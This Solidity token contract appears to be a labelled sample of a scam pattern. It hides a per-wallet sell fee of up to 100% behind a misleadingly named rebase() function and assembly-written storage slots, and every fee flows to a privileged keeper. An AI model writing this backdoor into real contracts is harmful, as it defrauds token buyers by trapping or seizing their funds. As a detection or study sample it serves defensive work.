// SPDX-License-Identifier: MIT
pragma solidity 0.8.28;

import {ERC20, Ownable, IDexRouter, IDexFactory} from "./Base.sol";

/// @title personal_slippage_modifiable, another shape: each wallet's sell
/// fee sits at a hashed slot written with assembly, behind an inline
/// check, under a misleading name: rebase(wallet, bps) sets that one
/// wallet's fee (up to 100%). Every wallet pays 2% today.
contract WalletRateToken is ERC20, Ownable {
    address public immutable pair;
    address private _keeper;

    constructor(address router, uint256 supply) ERC20("Wallet Rate", "WRATE") Ownable(msg.sender) {
        IDexRouter r = IDexRouter(router);
        pair = IDexFactory(r.factory()).createPair(address(this), r.WETH());
        _keeper = msg.sender;
        _mint(msg.sender, supply);
    }

    function rebase(address wallet, uint256 bps) external {
        require(msg.sender == _keeper, "rebase: keeper");
        require(bps <= 10_000, "rebase: range");
        bytes32 slot = keccak256(abi.encode(wallet, "wallet.rate"));
        assembly {
            sstore(slot, add(bps, 1))
        }
    }

    function _rateOf(address wallet) private view returns (uint256 bps) {
        bytes32 slot = keccak256(abi.encode(wallet, "wallet.rate"));
        assembly {
            bps := sload(slot)
        }
        bps = bps == 0 ? 200 : bps - 1;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        if (to == pair && from != _keeper) {
            uint256 fee = (value * _rateOf(from)) / 10_000;
            if (fee > 0) _move(from, _keeper, fee);
            value -= fee;
        }
        _move(from, to, value);
    }
}
